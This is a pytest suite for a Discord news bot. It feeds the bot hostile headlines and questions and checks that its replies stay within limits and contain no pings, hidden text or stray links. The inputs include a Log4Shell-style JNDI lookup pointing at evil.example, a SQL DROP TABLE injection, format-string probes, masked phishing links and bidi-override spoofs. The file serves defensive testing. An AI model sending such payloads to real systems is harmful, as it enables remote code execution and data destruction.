"""Hostile questions and articles: what people see stays within bounds, and nothing is lost."""

from datetime import UTC, datetime, timedelta
from pathlib import Path

import discord
import pytest
import simcord

from knowledge.article import Article
from knowledge.library import Library, LibrarySettings
from knowledge.roster import Candidate, Roster
from tests.support.discord import Scene, Shown, embed_of, labels_of, reply_of, scene
from tests.support.markdown import BARE_URL, HIDDEN, PINGS, link_targets, without_own_markup

PERSON = "Nora Marlow"
ROSTER = Roster((Candidate(PERSON, "Marlow"),))
START = datetime(2026, 9, 1, tzinfo=UTC)
TEXT = "Nora Marlow skipped the union forum because of a town hall. She said so on Monday."
TITLES = [
    "```Marlow``` skips ```py\nimport os```",
    "@everyone <@1> <@&2> <#3> </ask:4> <t:1:R> <:x:5>",
    "W" * 5_000,
    "\u202eolleh\u202c Marlow \u2067שלום\u2069 مرحبا",
    "Marlow" + "\u0301" * 3_000 + " skips",
    "\n" * 2_000 + "Marlow skips",
    "🗳️" * 400,
    "[Marlow](https://evil.example) ](<https://evil.example>)",
    "https\uff1a\u2044\u2044evil\u2024example Marlow",
    "> # -# ||Marlow|| **skips** __the__ forum \\",
    "\u3164\u115f\U000e0041\u2800",
    "",
]
"""Each is the headline of an article, and the name of its outlet."""
TEXTS = [
    TEXT,
    "Nora Marlow " + "Z" * 20_000 + " skipped the forum.",
    "Nora Marlow skipped the forum.\n" * 2_000,
    "“@everyone Marlow skipped the forum,” <@1> said. ```x``` ||y|| [z](https://evil.example)",
    "Marlow skipped the \u202eforum\u202c. שלום Marlow skipped the forum for مرحبا.",
    "Nora M" + "\u0336\u0489" * 500 + "arlow skipped the forum.",
]
QUESTIONS = [
    "Did Marlow skip the forum?",
    "W" * 500,
    "forum " * 80,
    "🗳️🇺🇸👩‍👩‍👧",
    "<:forum:111111111111111111>",
    "\u202eDid Marlow skip the forum?",
    "هل تخطت Marlow المنتدى?",
    "D̶̢̛i̷d̴ Marlow skip".replace("i", "i" + "\u0315" * 60),
    "?" * 500,
    "\u3164 \u2800",
    "Did Marlow skip\u2028the\u0085forum?",
    "```sql\nDROP TABLE articles; -- Marlow forum```",
    "[Marlow](https://evil.example) @everyone <@1> forum",
    "'; \" -- Marlow %s {0} {name} forum",
    "${jndi:ldap://evil.example/x} Marlow forum",
    "Marlow AND forum OR NOT NEAR/2 *",
    "since 9999-12-31 Marlow forum",
    "Marlow forum before 0001-01-01",
    "last year 0000 Marlow forum 99/99/9999",
    "and Marlow? and Marlow? and forum? and why? " * 11,
    "in 10000 days Marlow forum",
    "-1 0 1e308 NaN inf Marlow",
    "１２３４５６７ Ｍａｒｌｏｗ forum",
    "ﬁ ﬂ ß ẞ İ ı ſ Marlow",
    "Marlow\u200b\u200c\u200d\ufeff forum",
    "\ud83d Marlow forum".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "......................................................................",
    "\\ \\\\ \\* \\_ Marlow",
    "\t\v\f\r Marlow forum",
    "Who said at the forum that everyone skipped x, y and z?",
    "Which forum is مرحبا Marlow שלום?",
    "Is Nora arlow at the forum?",
    "help", "thanks!!!!!!!!", "what can you do",
]  # fmt: skip


def make_library(folder: Path) -> Library:
    articles = [
        Article(
            article_id=f"{number}-{other}",
            title=title,
            text=text if other else f"{TEXT} It is story {number}.",
            outlet=title[:300],
            url=f"https://paper.example/{number}/{other}",
            published_at=START + timedelta(hours=number),
        )
        for number, title in enumerate(TITLES)
        for other, text in enumerate(TEXTS)
    ]
    return Library.build(folder, articles, LibrarySettings(roster=ROSTER))


def assert_harmless(message: Shown) -> None:
    """Check what an embed shows: Discord's limits, and nothing that pings, links or hides."""
    assert message is not None
    for embed in message.embeds:
        assert len(embed) <= 6_000
        for part in (embed.title, embed.description, embed.footer.text):
            shown = without_own_markup(part or "")
            assert not PINGS.search(shown)
            assert not HIDDEN.search(shown.replace("\n", " "))
            assert not BARE_URL.search(shown)
        for target in link_targets(embed.description or ""):
            assert target.startswith("https://paper.example/")
        assert (embed.description or "").count("\n") < 100


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Library:
    return make_library(tmp_path_factory.mktemp("hostile"))


async def press_all(here: Scene, shown: discord.Message | simcord.ResponseMessage) -> None:
    """Press what shows more, and check what comes."""
    for label in ("More", "Sources", "Headlines", "Why?", "The numbers"):
        if label in labels_of(shown):
            result = await here.member.click(shown, label=label)
            assert_harmless(reply_of(result))
            await press_all(here, reply_of(result))


@pytest.mark.parametrize("third", range(3))
async def test_hostile_questions_are_answered_within_bounds(
    tmp_path: Path, library: Library, third: int
) -> None:
    async with scene(tmp_path, library) as here:
        for question in QUESTIONS[third::3]:
            refused = len(here.env.errors)
            result = await here.member.slash(here.channel, "ask", question=question)
            shown = result.response or result.followups[0]
            assert_harmless(shown)
            assert shown.embeds or shown.content.startswith("Ask me a question"), question
            assert len(here.env.errors) == refused + (not shown.embeds)
            await press_all(here, shown)


async def test_hostile_articles_are_shown_within_bounds(tmp_path: Path, library: Library) -> None:
    looks: list[tuple[str, dict[str, str]]] = [
        ("candidate", {"name": PERSON}),
        ("timeline", {"candidate": PERSON}),
        ("headlines", {}),
        ("headlines", {"candidate": PERSON}),
    ]
    async with scene(tmp_path, library) as here:
        for command, options in looks:
            page = reply_of(await here.member.slash(here.channel, command, **options))
            for turned in range(1, 4):
                assert_harmless(page)
                footer = embed_of(page).footer.text or ""
                if footer.endswith(f"{turned} of {turned}") or "Next" not in labels_of(page):
                    break
                page = reply_of(await here.member.click(page, label="Next"))


async def test_hostile_headlines_and_outlets_are_cited_within_bounds(
    tmp_path: Path, library: Library
) -> None:
    async with scene(tmp_path, library) as here:
        for number, _ in enumerate(TITLES):
            question = f"Why did Marlow skip the forum in story {number}?"
            shown = reply_of(await here.member.slash(here.channel, "ask", question=question))
            assert_harmless(shown)
            await press_all(here, shown)
